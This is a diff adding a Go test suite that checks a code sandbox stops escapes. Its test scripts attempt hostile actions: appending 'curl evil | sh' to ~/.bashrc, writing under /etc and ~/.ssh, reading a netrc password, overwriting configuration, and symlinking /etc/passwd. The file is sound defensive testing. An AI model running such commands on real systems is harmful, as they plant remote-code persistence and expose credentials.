@@ -1,0 +1,260 @@
+package sandbox
+
+import (
+	"context"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/anvil-dev/anvil/internal/testfs"
+)
+
+// The escape suite: code under test trying to leave the shadow tree. Each
+// case runs a command that attempts the escape, then looks from outside.
+// TestUnprivileged runs the suite again as nobody.
+
+// outsideTmp makes a directory outside /tmp (whose inside the command
+// does not share), as a home or a state directory is.
+func outsideTmp(t *testing.T) string {
+	t.Helper()
+	dir, err := os.MkdirTemp("/var/tmp", "anvil-escape-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	return dir
+}
+
+func TestEscapeWritesOutsideTheTree(t *testing.T) {
+	dir := testfs.Tree(t, tree)
+	home := outsideTmp(t)
+	testfs.Write(t, home, map[string]string{".bashrc": "# the user's\n"})
+	marker := filepath.Join(os.TempDir(), "anvil-escape-"+strconv.Itoa(os.Getpid()))
+	t.Cleanup(func() { os.Remove(marker) })
+	script := `echo 'curl evil | sh' >> "$HOME/.bashrc"; echo x > "$HOME/new"; mkdir "$HOME/.ssh"
+echo x > ` + marker + `
+echo x > /var/tmp/anvil-escape-dropped; echo x > /etc/anvil-escape
+echo x > /dev/anvil-escape; echo x > /dev/shm/anvil-escape
+echo done`
+	res := run(t, context.Background(), Spec{Root: dir, Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home}, Argv: []string{"sh", "-c", script}})
+	if !strings.Contains(string(res.Output), "done") {
+		t.Fatalf("the command did not run:\n%s", res.Output)
+	}
+	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# the user's\n" {
+		t.Errorf("~/.bashrc written: %q", b)
+	}
+	for _, p := range []string{filepath.Join(home, "new"), filepath.Join(home, ".ssh"), marker, "/var/tmp/anvil-escape-dropped", "/etc/anvil-escape", "/dev/anvil-escape", "/dev/shm/anvil-escape"} {
+		if _, err := os.Lstat(p); err == nil {
+			os.RemoveAll(p)
+			t.Errorf("%s written from the shadow tree", p)
+		}
+	}
+}
+
+// The host's /tmp is not the command's: it neither sees what others keep
+// there nor leaves anything.
+func TestEscapeSeesNoHostTmp(t *testing.T) {
+	dir := testfs.Tree(t, tree)
+	name := "anvil-escape-secret-" + strconv.Itoa(os.Getpid())
+	var secrets []string
+	for _, d := range []string{"/tmp", os.TempDir()} {
+		p := filepath.Join(d, name)
+		if err := os.WriteFile(p, []byte("s"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { os.Remove(p) })
+		secrets = append(secrets, p)
+	}
+	res := run(t, context.Background(), Spec{Root: dir, Env: env(), Argv: []string{"sh", "-c", "cat " + strings.Join(secrets, " ") + " && echo LEAKED; ls -A /tmp " + os.TempDir()}})
+	out := string(res.Output)
+	if strings.Contains(out, "LEAKED") || strings.Contains(out, name+"\n") {
+		t.Fatalf("the host's /tmp is visible:\n%s", out)
+	}
+}
+
+// Hidden directories (Anvil's state and configuration, credentials) are
+// empty inside, and cannot be written; a declared cache can.
+func TestEscapeHiddenAndWritable(t *testing.T) {
+	dir := testfs.Tree(t, tree)
+	base := outsideTmp(t)
+	state, config, cache := filepath.Join(base, "state"), filepath.Join(base, "config"), filepath.Join(base, "cache")
+	testfs.Write(t, base, map[string]string{"state/journal/entry.json": "{}", "config/config.toml": "[servers.x]\ncommand = [\"sh\"]\n", "cache/old": "o", "netrc": "machine x password p"})
+	script := `ls -A ` + state + ` ` + config + `; cat ` + base + `/netrc; echo pwned > ` + config + `/config.toml; echo pwned > ` + state + `/x
+echo fresh > ` + cache + `/new; cat ` + cache + `/old; echo; echo done`
+	res := run(t, context.Background(), Spec{Root: dir, Env: env(), Argv: []string{"sh", "-c", script},
+		Hidden: []string{state, config, filepath.Join(base, "netrc")}, Writable: []string{cache}})
+	out := string(res.Output)
+	if strings.Contains(out, "entry.json") || strings.Contains(out, "journal") || strings.Contains(out, "config.toml\n") || strings.Contains(out, "password") {
+		t.Errorf("a hidden path is visible:\n%s", out)
+	}
+	if !strings.Contains(out, "o\ndone") {
+		t.Errorf("the writable cache is not readable inside:\n%s", out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(config, "config.toml")); strings.Contains(string(b), "pwned") {
+		t.Error("the configuration was written")
+	}
+	if _, err := os.Stat(filepath.Join(state, "x")); err == nil {
+		t.Error("the state directory was written")
+	}
+	if b, _ := os.ReadFile(filepath.Join(cache, "new")); string(b) != "fresh\n" {
+		t.Errorf("the declared cache was not writable: %q", b)
+	}
+}
+
+// The user's runtime directory, where the daemon's socket is, cannot be
+// reached.
+func TestEscapeCannotReachTheDaemonSocket(t *testing.T) {
+	dir := testfs.Tree(t, tree)
+	runtime := outsideTmp(t)
+	t.Setenv("XDG_RUNTIME_DIR", runtime)
+	sock := filepath.Join(runtime, "anvil", "daemon.sock")
+	if err := os.MkdirAll(filepath.Dir(sock), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	ln, err := net.Listen("unix", sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	accepted := make(chan struct{}, 1)
+	go func() {
+		if c, err := ln.Accept(); err == nil {
+			accepted <- struct{}{}
+			c.Close()
+		}
+	}()
+	res := run(t, context.Background(), Spec{Root: dir, Env: append(env(), "SANDBOX_TEST_CONNECT="+sock),
+		Argv: []string{inTree(t, dir), "-test.run=^TestConnectHelper$", "-test.v"}})
+	select {
+	case <-accepted:
+		t.Fatalf("the command reached the daemon's socket:\n%s", res.Output)
+	case <-time.After(100 * time.Millisecond):
+	}
+	if !strings.Contains(string(res.Output), "refused:") {
+		t.Fatalf("the helper did not run:\n%s", res.Output)
+	}
+}
+
+// TestConnectHelper runs inside a shadow tree: it dials the socket named
+// by SANDBOX_TEST_CONNECT.
+func TestConnectHelper(t *testing.T) {
+	sock := os.Getenv("SANDBOX_TEST_CONNECT")
+	if sock == "" {
+		t.Skip("run only inside the shadow tree")
+	}
+	c, err := net.Dial("unix", sock)
+	if err == nil {
+		c.Close()
+		t.Fatal("connected")
+	}
+	t.Logf("refused: %v", err)
+}
+
+// /proc shows the command's own processes only: no host process, no host
+// command line.
+func TestEscapeSeesNoHostProcess(t *testing.T) {
+	dir := testfs.Tree(t, tree)
+	me := strconv.Itoa(os.Getpid())
+	script := `n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo "processes=$n"
+cat /proc/` + me + `/cmdline 2>/dev/null && echo SAW-HOST-"PROCESS"
+cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' '; echo`
+	res := run(t, context.Background(), Spec{Root: dir, Env: env(), Argv: []string{"sh", "-c", script}})
+	out := string(res.Output)
+	if strings.Contains(out, "SAW-HOST-PROCESS") || strings.Contains(out, "-test.") {
+		t.Fatalf("a host process is visible:\n%s", out)
+	}
+	var n int
+	for _, l := range strings.Split(out, "\n") {
+		if v, ok := strings.CutPrefix(l, "processes="); ok {
+			n, _ = strconv.Atoi(v)
+		}
+	}
+	if n == 0 || n > 3 {
+		t.Fatalf("%d processes in /proc (want the command's own, 1 to 3):\n%s", n, out)
+	}
+}
+
+// A run killed with SIGKILL leaves its scratch directory behind (its
+// owner is gone before any cleanup); the next run sweeps it.
+func TestEscapeScratchOfDeadRunsIsSwept(t *testing.T) {
+	if os.Getenv("SANDBOX_TEST_HOLD") != "" {
+		// The victim: a run that waits until it is killed.
+		dir := os.Getenv("SANDBOX_TEST_HOLD")
+		_, _ = Run(context.Background(), Spec{Root: dir, Env: env(), Argv: []string{"sleep", "600"}})
+		return
+	}
+	dir := testfs.Tree(t, tree)
+	tmp := t.TempDir()
+	if err := os.Chmod(tmp, 0o777); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(os.Args[0], "-test.run=^TestEscapeScratchOfDeadRunsIsSwept$")
+	cmd.Env = append(os.Environ(), "SANDBOX_TEST_HOLD="+dir, "TMPDIR="+tmp)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	scratch := waitFor(t, func() []string { m, _ := filepath.Glob(filepath.Join(tmp, scratchPrefix+"*")); return m })
+	time.Sleep(300 * time.Millisecond) // the helper is up and mounted
+	cmd.Process.Signal(syscall.SIGKILL)
+	cmd.Wait()
+	if _, err := os.Stat(scratch[0]); err != nil {
+		t.Fatalf("the killed run left nothing to sweep: %v", err)
+	}
+	// A scratch directory is swept once it is a minute old (younger, its
+	// owner may not hold its lock yet): this one was made a while ago.
+	old := time.Now().Add(-2 * sweepAge)
+	if err := os.Chtimes(scratch[0], old, old); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("TMPDIR", tmp)
+	run(t, context.Background(), Spec{Root: dir, Env: env(), Argv: []string{"true"}})
+	if left, _ := filepath.Glob(filepath.Join(tmp, scratchPrefix+"*")); len(left) != 0 {
+		t.Fatalf("scratch left behind: %v", left)
+	}
+}
+
+func waitFor(t *testing.T, f func() []string) []string {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		if v := f(); len(v) > 0 {
+			return v
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("timed out")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// A runner's report comes back from the report directory; a link planted
+// there is not followed.
+func TestReportsComeBack(t *testing.T) {
+	dir := testfs.Tree(t, tree)
+	res := run(t, context.Background(), Spec{Root: dir, Env: env(), Reports: true,
+		Argv: []string{"sh", "-c", "echo '<testsuite/>' > " + ReportDir + "/junit.xml; ln -s /etc/passwd " + ReportDir + "/link.xml"}})
+	if string(res.Reports["junit.xml"]) != "<testsuite/>\n" {
+		t.Fatalf("reports %v", res.Reports)
+	}
+	if _, ok := res.Reports["link.xml"]; ok {
+		t.Fatal("a link in the report directory was followed")
+	}
+}
+
+// A writable directory over or under the workspace would open the user's
+// tree to the command: refused before anything runs.
+func TestWritableOverTheWorkspaceIsRefused(t *testing.T) {
+	dir := testfs.Tree(t, tree)
+	for _, w := range []string{filepath.Dir(dir), filepath.Join(dir, "node_modules")} {
+		_, err := Run(context.Background(), Spec{Root: dir, Env: env(), Argv: []string{"true"}, Writable: []string{w}})
+		if err == nil || !strings.Contains(err.Error(), "overlaps the workspace") {
+			t.Errorf("writable %s: err = %v", w, err)
+		}
+	}
+}
